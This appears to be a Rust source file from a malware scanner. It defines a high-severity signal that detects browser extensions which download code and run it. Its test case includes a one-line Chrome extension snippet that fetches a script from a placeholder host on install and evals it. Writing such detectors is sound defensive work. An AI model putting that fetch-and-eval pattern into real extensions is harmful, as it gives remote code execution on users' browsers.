//! `extension-runs-remote-code`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-runs-remote-code",
    description: "The extension loads code and runs it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ExtensionApi]),
        one(&[Atom::RemoteRun, Atom::AnswerRun, Atom::InjectedText]),
        one(&[Atom::Eval, Atom::FunctionOfText, Atom::InjectedText]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.runtime.onInstalled.addListener(()=>{fetch('https://c.example/p.js').then(r=>r.text()).then(t=>{eval(t)})})",
        ],
        without: &[
            "chrome.runtime.onInstalled.addListener(()=>{fetch('https://c.example/v.json').then(r=>r.json()).then(t=>{chrome.storage.local.set({v:t})})})",
        ],
    },
};
